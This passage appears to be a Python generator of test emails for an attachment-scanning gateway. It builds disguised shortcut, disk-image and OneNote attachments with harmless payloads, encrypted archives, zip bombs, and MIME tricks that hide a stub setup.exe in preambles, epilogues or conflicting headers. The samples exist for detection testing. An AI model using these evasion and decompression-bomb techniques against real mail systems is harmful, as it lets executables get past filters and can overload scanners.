def rtf_clean_sample(s):
    return attach(s, rtf_clean(), MIME_RTF, "report.rtf")


@sample("docx-clean.eml", item="report.docx", clean=True)
def docx_clean(s):
    return attach(s, gc.make_docx(), gc.MIME_DOCX, "report.docx")


# ================================================================ active files

def make_onenote():
    """A OneNote section: the revision-store header GUID, then a
    FileDataStoreObject (an embedded file) with its GUID header."""
    header = bytearray(1024)
    header[0:16] = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")  # {7B5C52E4-...}
    header[16:32] = bytes.fromhex("3fdd9a10a7b9e54b8d0da0e42cf2a9d3")  # legacy file format
    content = b"@echo off\r\necho harmless embedded file of a test OneNote section\r\n"
    store = (bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
             + struct.pack("<QII", len(content), 0, 0) + content)
    store = store.ljust(-(-len(store) // 8) * 8, b"\0") + bytes.fromhex(
        "22a7fb71796f4c4cbbeb99b87ef7a6d0")  # footer GUID
    return bytes(header) + store


def make_lnk():
    """A Shell Link (MS-SHLLINK): 76-byte header, then a relative path and
    command-line arguments (HasRelativePath | HasArguments | IsUnicode)."""
    flags = 0x08 | 0x20 | 0x80
    header = struct.pack("<I16sIIQQQIIIHHII", 0x4C, bytes.fromhex(
        "0114020000000000c000000000000046"), flags, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    assert len(header) == 0x4C

    def string(text):
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return header + string("..\\..\\Windows\\System32\\cmd.exe") + string(
        "/c echo harmless test shortcut")


URL_SHORTCUT = (b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"
                b"IconIndex=1\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n")
WEBSITE_SHORTCUT = (b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n"
                    b"[InternetShortcut]\r\nIDList=\r\nURL=https://www.example.com/invoice\r\n")


def make_iso():
    """An ISO 9660 image: 16 empty system sectors, a primary volume
    descriptor, a terminator."""
    pvd = bytearray(2048)
    pvd[0:8] = b"\x01CD001\x01\x00"
    pvd[8:40] = b"AIRLOCK".ljust(32)
    pvd[40:72] = b"INVOICE".ljust(32)
    both_endian = [(80, "I", 20), (120, "H", 1), (124, "H", 1), (128, "H", 2048)]
    for offset, kind, value in both_endian:  # ISO 9660 7.2.3 / 7.3.3
        struct.pack_into("<" + kind, pvd, offset, value)
        struct.pack_into(">" + kind, pvd, offset + struct.calcsize(kind), value)
    pvd[881] = 1
    terminator = b"\xffCD001\x01".ljust(2048, b"\0")
    return bytes(16 * 2048) + bytes(pvd) + terminator + bytes(2 * 2048)


def make_floppy_img():
    """A FAT12 1.44 MB floppy boot sector and its first FAT (the start of
    an .img disk image)."""
    boot = bytearray(512)
    boot[0:3] = b"\xeb\x3c\x90"
    boot[3:11] = b"MSWIN4.1"
    struct.pack_into("<HBHBHHBHHHII", boot, 11, 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2, 0, 0)
    boot[43:54] = b"AIRLOCK    "
    boot[54:62] = b"FAT12   "
    boot[510:512] = b"\x55\xaa"
    fat = b"\xf0\xff\xff".ljust(9 * 512, b"\0")
    return bytes(boot) + fat * 2 + bytes(14 * 512)


def make_vhd():
    """A fixed VHD: the disk data, then the 512-byte "conectix" footer."""
    data = make_floppy_img()
    footer = bytearray(512)
    struct.pack_into(">8sIIQI4sI4sQQIIII16sB", footer, 0, b"conectix", 2, 0x00010000,
                     0xFFFFFFFFFFFFFFFF, 0, b"airl", 0x00010000, b"Wi2k", len(data), len(data),
                     0x00500410, 2, 0, 0, bytes(16), 0)
    checksum = (~sum(footer)) & 0xFFFFFFFF
    struct.pack_into(">I", footer, 64, checksum)
    return data + bytes(footer)


def make_chm():
    """An HTML Help file header (ITSF version 3) and its directory header."""
    itsf = struct.pack("<4sIIII16s16s", b"ITSF", 3, 0x60, 1, 0x12345678,
                       bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec"),
                       bytes.fromhex("11fd017caa7bd0119e0c00a0c922e6ec"))
    itsf += struct.pack("<QQQQQ", 0x60, 0x18, 0x78, 0x54 + 0x1000, 0)
    itsp = struct.pack("<4sIIIIIIIIII", b"ITSP", 1, 0x54, 10, 0x1000, 2, 1, 0, 0, 1, 0xFFFFFFFF)
    return (itsf.ljust(0x78, b"\0") + itsp).ljust(0x78 + 0x54 + 0x1000, b"\0")


def make_appx():
    manifest = (b'<?xml version="1.0" encoding="utf-8"?>\r\n<Package xmlns="http://schemas.'
                b'microsoft.com/appx/manifest/foundation/windows10"><Identity Name="Airlock.Test" '
                b'Version="1.0.0.0" Publisher="CN=Airlock Test"/></Package>')
    blockmap = (b'<?xml version="1.0" encoding="utf-8"?>\r\n<BlockMap xmlns="http://schemas.'
                b'microsoft.com/appx/2010/blockmap" HashMethod="http://www.w3.org/2001/04/'
                b'xmlenc#sha256"/>')
    return zipped([("AppxManifest.xml", manifest), ("AppxBlockMap.xml", blockmap),
                   ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.'
                    b'openxmlformats.org/package/2006/content-types"/>'),
                   ("app.exe", gc.make_pe())])


def make_class():
    """A Java class file header (magic, version 52) and an empty pool."""
    return struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 1) + struct.pack(">HHHHHHH", 0x21, 0, 0, 0,
                                                                     0, 0, 0)


def make_jar():
    return zipped([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: Main\r\n\r\n"),
                   ("Main.class", make_class())])


ACTIVE_FILES = [
    ("onenote", "notes.one", "application/onenote", make_onenote),
    ("lnk", "invoice.pdf.lnk", MIME_OCTET, make_lnk),
    ("url", "invoice.url", MIME_OCTET, lambda: URL_SHORTCUT),
    ("website", "invoice.website", MIME_OCTET, lambda: WEBSITE_SHORTCUT),
    ("iso", "invoice.iso", MIME_OCTET, make_iso),
    ("img", "invoice.img", MIME_OCTET, make_floppy_img),
    ("vhd", "invoice.vhd", MIME_OCTET, make_vhd),
    ("msi", "setup.msi", "application/x-msi", msi_cfb),
    ("msix", "app.msix", MIME_OCTET, make_appx),
    ("appx", "app.appx", MIME_OCTET, make_appx),
    ("chm", "help.chm", "application/vnd.ms-htmlhelp", make_chm),
    ("xll", "report.xll", MIME_OCTET, gc.make_pe),
    ("jar", "invoice.jar", "application/java-archive", make_jar),
]

for _kind, _file, _ctype, _make in ACTIVE_FILES:
    def _active(s, make=_make, ctype=_ctype, filename=_file):
        return attach(s, make(), ctype, filename)
    sample("active-%s.eml" % _kind, item=_file, reasons=["executable"],
           also=["disguised"])(_active)

    def _active_zip(s, make=_make, filename=_file):
        return attach(s, zipped([(filename, make())]), gc.MIME_ZIP, "files.zip")
    sample("active-%s-in-zip.eml" % _kind, item="files.zip", reasons=["executable"],
           also=["disguised"], inner=_file)(_active_zip)


# Content alone (no telling name): what our signatures and inspectors see.
for _kind, _make in [("onenote", make_onenote), ("lnk", make_lnk), ("vhd", make_vhd),
                     ("chm", make_chm), ("appx", make_appx), ("jar", make_jar)]:
    def _unnamed(s, make=_make):
        return attach(s, make(), MIME_OCTET, "document.dat")
    sample("active-%s-misnamed.eml" % _kind, item="document.dat", reasons=["executable"],
           also=["disguised"])(_unnamed)


# ================================================================ encrypted

def rc4(key, data):
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) & 0xFF
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) & 0xFF
        j = (j + state[i]) & 0xFF
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) & 0xFF])
    return bytes(out)


PDF_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def pdf_encrypted(user_password=b"secret", owner_password=b"owner"):
    """A PDF encrypted with the standard security handler, revision 2
    (40-bit RC4), openable only with the user password."""
    import hashlib
    file_id = hashlib.md5(b"airlock encrypted pdf").digest()
    permissions = -4

    def pad(password):
        return (password + PDF_PAD)[:32]
    owner_key = hashlib.md5(pad(owner_password)).digest()[:5]
    o_value = rc4(owner_key, pad(user_password))
    key = hashlib.md5(pad(user_password) + o_value + struct.pack("<i", permissions)
                      + file_id).digest()[:5]
    u_value = rc4(key, PDF_PAD)

    def object_key(number):
        return hashlib.md5(key + struct.pack("<I", number)[:3] + b"\0\0").digest()[:10]
    stream = rc4(object_key(5), b"BT /F1 18 Tf 72 760 Td (Confidential) Tj ET\n")
    objects = pdf_page_objects()
    objects[4] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    objects.append(b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>"
                   % (o_value.hex().encode(), u_value.hex().encode(), permissions))
    return pdf_document(objects, trailer_extra=b" /Encrypt 6 0 R /ID [<%s> <%s>]"
                        % (file_id.hex().encode(), file_id.hex().encode()))


def zip_aes():
    """A ZIP entry encrypted with WinZip AES-256 (method 99, extra field
    0x9901): salt, password verifier, ciphertext, authentication code."""
    data = gc.make_pdf("Contract")
    payload = (gc.prng_bytes(b"aes salt", 16) + b"\x12\x34" + gc.prng_bytes(b"aes data", len(data))
               + gc.prng_bytes(b"aes mac", 10))
    extra = struct.pack("<HHH2sBH", 0x9901, 7, 2, b"AE", 3, 8)
    time, date = gc.dos_date_time()
    name = b"contract.pdf"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 51, 1, 99, time, date, 0, len(payload),
                        len(data), len(name), len(extra)) + name + extra + payload
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 51, 51, 1, 99, time, date, 0,
                          len(payload), len(data), len(name), len(extra), 0, 0, 0, 0, 0)
    central += name + extra
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def zip_crypto():
    return gc.make_zip([gc.zip_entry("contract.pdf", gc.make_pdf("Contract"), password=b"1234")])


@sample("encrypted-zip-zipcrypto.eml", item="contract.zip", reasons=["encrypted"])
def enc_zipcrypto(s):
    return attach(s, zip_crypto(), gc.MIME_ZIP, "contract.zip")


@sample("encrypted-zip-password-in-body.eml", item="contract.zip", reasons=["encrypted"])
def enc_zip_body(s):
    return mail(s, "Contract", [gc.attachment(zip_crypto(), gc.MIME_ZIP, "contract.zip")],
                text="Bonjour,\n\nle contrat est joint. Mot de passe : 1234\n"
                     "(password: 1234)\n")


@sample("encrypted-zip-aes.eml", item="contract.zip", reasons=["encrypted"])
def enc_zip_aes(s):
    return attach(s, zip_aes(), gc.MIME_ZIP, "contract.zip")


@sample("encrypted-pdf.eml", item="contract.pdf", reasons=["encrypted"])
def enc_pdf(s):
    return mail(s, "Contract", [gc.attachment(pdf_encrypted(), gc.MIME_PDF, "contract.pdf")],
                text="The password is secret.\n")


@sample("encrypted-docx.eml", item="contract.docx", reasons=["encrypted"])
def enc_docx(s):
    return mail(s, "Contract", [gc.attachment(encrypted_ooxml_cfb(), gc.MIME_DOCX,
                                              "contract.docx")],
                text="Password: secret\n")


MIME_DOC, MIME_XLS = "application/msword", "application/vnd.ms-excel"


def legacy_word(encrypted):
    """Word 97-2003: a WordDocument stream opening with the FIB (wIdent
    0xA5EC, nFib 0xC1, French lid, fWhichTblStm, fEncrypted when asked:
    RC4 CryptoAPI, whose header would be in 1Table)."""
    flags = 0x0200 | (0x0100 if encrypted else 0)
    fib = struct.pack("<HHHHHHH", 0xA5EC, 0xC1, 0, 0x040C, 0, flags, 0xBF)
    table = struct.pack("<HHI", 4, 2, 0x24) + gc.prng_bytes(b"rc4 header", 180)
    cfb = Cfb()
    Cfb.stream(cfb.root, "WordDocument", fib + gc.prng_bytes(b"word text", 2048))
    Cfb.stream(cfb.root, "1Table", table)
    return cfb_bytes(cfb)


def legacy_excel(encrypted):
    """Excel 97-2003: a small Workbook stream (so in the mini stream): BOF
    (BIFF8 workbook globals), then FILEPASS (RC4, MS-XLS 2.4.117) when
    encrypted, else INTERFACEHDR."""
    def record(kind, body):
        return struct.pack("<HH", kind, len(body)) + body
    bof = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x41, 0x06))
    if encrypted:
        second = record(0x002F, struct.pack("<HHH", 1, 1, 1) + gc.prng_bytes(b"rc4 verifier", 48))
    else:
        second = record(0x00E1, struct.pack("<H", 0x04B0))
    cfb = Cfb()
    Cfb.stream(cfb.root, "Workbook", bof + second + gc.prng_bytes(b"xls records", 600), mini=True)
    return cfb_bytes(cfb)


MIME_PPT = "application/vnd.ms-powerpoint"


def legacy_powerpoint(token, encrypted_summary=False):
    """PowerPoint 97-2003: a small Current User stream (mini stream) whose
    CurrentUserAtom carries headerToken (0xF3D1C4DF for an encrypted
    presentation, 0xE391C05F otherwise), the PowerPoint Document stream,
    and either the usual SummaryInformation or an EncryptedSummary."""
    user = b"Dr Martin"
    atom = (struct.pack("<IIIHHBBH", 0x14, token, 0, len(user), 0x03F4, 3, 0, 0) + user
            + struct.pack("<I", 8))
    current_user = struct.pack("<HHI", 0, 0x0FF6, len(atom)) + atom
    cfb = Cfb()
    Cfb.stream(cfb.root, "Current User", current_user, mini=True)
    Cfb.stream(cfb.root, "PowerPoint Document", gc.prng_bytes(b"ppt document", 6000))
    if encrypted_summary:
        Cfb.stream(cfb.root, "EncryptedSummary", gc.prng_bytes(b"ppt summary", 300), mini=True)
    else:
        Cfb.stream(cfb.root, "\x05SummaryInformation", b"\xfe\xff\x00\x00", mini=True)
    return cfb_bytes(cfb)


@sample("encrypted-ppt.eml", item="slides.ppt", reasons=["encrypted"])
def enc_ppt(s):
    return attach(s, legacy_powerpoint(0xF3D1C4DF), MIME_PPT, "slides.ppt")


@sample("encrypted-ppt-summary.eml", item="slides.ppt", reasons=["encrypted"])
def enc_ppt_summary(s):
    return attach(s, legacy_powerpoint(0xE391C05F, encrypted_summary=True), MIME_PPT,
                  "slides.ppt")


@sample("ppt-legacy-clean.eml", item="slides.ppt", clean=True)
def ppt_legacy_clean(s):
    return attach(s, legacy_powerpoint(0xE391C05F), MIME_PPT, "slides.ppt")


@sample("encrypted-doc.eml", item="contract.doc", reasons=["encrypted"])
def enc_doc(s):
    return mail(s, "Contract", [gc.attachment(legacy_word(True), MIME_DOC, "contract.doc")],
                text="Mot de passe : 1234\n")


@sample("encrypted-xls.eml", item="salaries.xls", reasons=["encrypted"])
def enc_xls(s):
    return attach(s, legacy_excel(True), MIME_XLS, "salaries.xls")


@sample("doc-legacy-clean.eml", item="letter.doc", clean=True)
def doc_legacy_clean(s):
    return attach(s, legacy_word(False), MIME_DOC, "letter.doc")


@sample("xls-legacy-clean.eml", item="planning.xls", clean=True)
def xls_legacy_clean(s):
    return attach(s, legacy_excel(False), MIME_XLS, "planning.xls")


@sample("encrypted-zip-in-zip.eml", item="outer.zip", reasons=["encrypted"])
def enc_zip_in_zip(s):
    return attach(s, zipped([("contract.zip", zip_crypto())]), gc.MIME_ZIP, "outer.zip")


def seven_zip(members, password=None, encrypt_names=False):
    """A 7z archive made by 7z(1) (p7zip-full): AES-256 when a password is
    given, the file list encrypted too with encrypt_names. The salt and IV
    are random, so the bytes differ from run to run; the verdict must not."""
    with tempfile.TemporaryDirectory(prefix="airlock-7z-") as tmp:
        names = []
        for name, data in members:
            path = os.path.join(tmp, name)
            with open(path, "wb") as f:
                f.write(data)
            os.utime(path, (1764403200, 1764403200))
            names.append(name)
        out = os.path.join(tmp, "archive.7z")
        args = ["7z", "a", "-t7z", "-bd", "-y", out] + names
        if password is not None:
            args.insert(2, "-p" + password)
            args.insert(3, "-mhe=" + ("on" if encrypt_names else "off"))
        subprocess.run(args, cwd=tmp, check=True, stdout=subprocess.DEVNULL)
        with open(out, "rb") as f:
            return f.read()


MIME_7Z = "application/x-7z-compressed"


@sample("encrypted-7z.eml", item="contract.7z", reasons=["encrypted"])
def enc_7z(s):
    data = seven_zip([("contract.pdf", gc.make_pdf("Contract"))], password="1234")
    return mail(s, "Contract", [gc.attachment(data, MIME_7Z, "contract.7z")],
                text="Mot de passe : 1234\n")


@sample("encrypted-7z-names.eml", item="contract.7z", reasons=["encrypted"])
def enc_7z_names(s):
    data = seven_zip([("contract.pdf", gc.make_pdf("Contract"))], password="1234",
                     encrypt_names=True)
    return attach(s, data, MIME_7Z, "contract.7z")


@sample("7z-with-program.eml", item="invoice.7z", reasons=["executable"], inner="setup.exe")
def seven_zip_program(s):
    return attach(s, seven_zip([("setup.exe", gc.make_pe())]), MIME_7Z, "invoice.7z")


@sample("7z-clean.eml", item="documents.7z", clean=True)
def seven_zip_clean(s):
    data = seven_zip([("readme.txt", b"Documents for the appointment.\r\n"),
                      ("report.pdf", gc.make_pdf("Report"))])
    return attach(s, data, MIME_7Z, "documents.7z")


# ================================================================ archive bombs and tricks

@sample("zip-bomb-ratio.eml", item="backup.zip", reasons=["limits"])
def zip_bomb_ratio(s):
    # 64 MiB of zeros in ~64 KB: below the 100 MB scan limit, but a
    # thousandfold expansion no real document has.
    return attach(s, gc.make_zip([gc.zip_entry_zeros("disk.raw", 64 * 1024 * 1024)]),
                  gc.MIME_ZIP, "backup.zip")


@sample("zip-bomb-depth.eml", item="nested.zip", reasons=["limits"])
def zip_bomb_depth(s):
    data = b"the bottom of a 24-level nest\r\n"
    name = "bottom.txt"
    for level in range(24):
        data = zipped([(name, data)])
        name = "level%02d.zip" % level
    return attach(s, data, gc.MIME_ZIP, "nested.zip")


def zip_overlapping(count=200):
    """A non-recursive bomb (Fifield 2019): many central directory entries
    all pointing at one local file."""
    member = bytes(1 << 20)
    crc = zlib.crc32(member) & 0xFFFFFFFF
    payload = gc.deflate_raw(member)
    time, date = gc.dos_date_time()
    name = b"data.bin"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, time, date, crc, len(payload),
                        len(member), len(name), 0) + name + payload
    central = b""
    for n in range(count):
        entry_name = b"data%03d.bin" % n
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, time, date, crc,
                               len(payload), len(member), len(entry_name), 0, 0, 0, 0, 0, 0)
        central += entry_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), 0)
    return local + central + end


@sample("zip-bomb-overlapping.eml", item="data.zip", reasons=["limits"], also=["malformed"])
def zip_bomb_overlap(s):
    return attach(s, zip_overlapping(), gc.MIME_ZIP, "data.zip")


def zip_mismatch():
    """The central directory names readme.txt; the local header that it
    points at names setup.exe: tools that read one or the other see
    different archives."""
    pe = gc.make_pe()
    crc = zlib.crc32(pe) & 0xFFFFFFFF
    payload = gc.deflate_raw(pe)
    time, date = gc.dos_date_time()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, time, date, crc, len(payload),
                        len(pe), 9, 0) + b"setup.exe" + payload
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, time, date, crc,
                          len(payload), len(pe), 10, 0, 0, 0, 0, 0, 0) + b"readme.txt"
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def zip_multidisk():
    """The last piece of a split archive: the end record says disk 2 of a
    set whose central directory starts on disk 0."""
    data = gc.make_zip([gc.zip_entry("readme.txt", b"part of a split archive\r\n")])
    end = data.rindex(b"PK\x05\x06")
    return data[:end + 4] + struct.pack("<HH", 2, 0) + data[end + 8:]


@sample("zip-cd-local-mismatch.eml", item="archive.zip", reasons=["malformed"],
        also=["executable", "disguised"])
def zip_cd_mismatch(s):
    return attach(s, zip_mismatch(), gc.MIME_ZIP, "archive.zip")


@sample("zip-multidisk.eml", item="archive.zip", reasons=["malformed"])
def zip_multi(s):
    return attach(s, zip_multidisk(), gc.MIME_ZIP, "archive.zip")


# ================================================================ MIME tricks

def raw_message(s, content_type, body, extra_headers=()):
    headers = gc.top_headers(s.name, STRANGER, "Documents", gc.stranger_trace())
    headers += list(extra_headers) + [("Content-Type", content_type)]
    return gc.entity(headers, body)


@sample("mime-message-partial.eml", message=["malformed"])
def mime_partial(s):
    fragment = (gc.header_block([("Content-Type", 'application/octet-stream; name="setup.exe"'),
                                 ("Content-Transfer-Encoding", "base64")])
                + CRLF + gc.b64_lines(gc.make_pe()[:600]))
    return raw_message(s, 'message/partial; id="airlock-threat@example.org"; number=1; total=2',
                       fragment)


@sample("mime-duplicate-boundary.eml", message=["malformed"], also=["executable"])
def mime_dup_boundary(s):
    # The inner multipart reuses the outer boundary: parsers disagree on
    # where each part ends, and one of them sees setup.exe.
    b = "same-boundary"
    inner = gc.entity([("Content-Type", gc.multipart_ct("mixed", b))],
                      gc.multipart_body(b, [gc.attachment(gc.make_pe(), MIME_OCTET, "setup.exe")],
                                        preamble=None))
    body = gc.multipart_body(b, [gc.text_part("Documents attached.\n"), inner], preamble=None)
    return raw_message(s, gc.multipart_ct("mixed", b), body)


@sample("mime-duplicate-content-type.eml", message=["malformed"], also=["executable",
                                                                         "disguised"])
def mime_dup_ct(s):
    b = "dup-ct"
    part = gc.entity([("Content-Type", "text/plain; charset=us-ascii"),
                      ("Content-Type", 'application/x-msdownload; name="setup.exe"'),
                      ("Content-Transfer-Encoding", "base64")], gc.b64_lines(gc.make_pe()))
    body = gc.multipart_body(b, [gc.text_part("Documents attached.\n"), part])
    return raw_message(s, gc.multipart_ct("mixed", b), body)


@sample("mime-duplicate-content-type-top.eml", message=["malformed"],
        also=["executable", "disguised"])
def mime_dup_ct_top(s):
    body = gc.b64_lines(gc.make_pe())
    return raw_message(s, 'application/x-msdownload; name="setup.exe"', body,
                       extra_headers=[("Content-Type", "text/plain; charset=us-ascii"),
                                      ("Content-Transfer-Encoding", "base64")])


@sample("mime-exe-in-text-plain.eml", message=["executable"], also=["disguised"])
def mime_exe_text_plain(s):
    b = "exe-text"
    part = gc.entity([("Content-Type", "text/plain; charset=us-ascii"),
                      ("Content-Transfer-Encoding", "base64")], gc.b64_lines(gc.make_pe()))
    body = gc.multipart_body(b, [gc.text_part("Documents attached.\n"), part])
    return raw_message(s, gc.multipart_ct("mixed", b), body)


def hidden_block():
    return (gc.header_block([("Content-Type", 'application/octet-stream; name="setup.exe"'),
                             ("Content-Disposition", 'attachment; filename="setup.exe"'),
                             ("Content-Transfer-Encoding", "base64")])
            + CRLF + gc.b64_lines(gc.make_pe()))


@sample("mime-attachment-in-preamble.eml", message=["malformed"])
def mime_preamble(s):
    b = "hidden-preamble"
    body = hidden_block() + CRLF + gc.multipart_body(b, [gc.text_part("Hello.\n")], preamble=None)
    return raw_message(s, gc.multipart_ct("mixed", b), body)


@sample("mime-attachment-in-epilogue.eml", message=["malformed"])
def mime_epilogue(s):
    b = "hidden-epilogue"
    body = gc.multipart_body(b, [gc.text_part("Hello.\n")], preamble=None) + CRLF + hidden_block()
    return raw_message(s, gc.multipart_ct("mixed", b), body)


# ================================================================ main

def load_class_modules():
    """The samples of tests/data/threats_*.py register themselves."""
    for path in sorted(Path(__file__).resolve().parent.glob("threats_*.py")):
        importlib.import_module(path.stem)


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: gen_threats.py OUTDIR\n")
        return 2
    load_class_modules()
    outdir = Path(argv[1])
    outdir.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for name, builder, expectation in SAMPLES:
        data = builder(gc.Sample(name))
        tmp = outdir / (name + ".tmp")
        tmp.write_bytes(data)
        os.replace(tmp, outdir / name)
        manifest[name] = expectation
    gc.write_configs(outdir)
    (outdir / "threats.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    print("gen_threats.py: %d samples in %s" % (len(SAMPLES), outdir))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
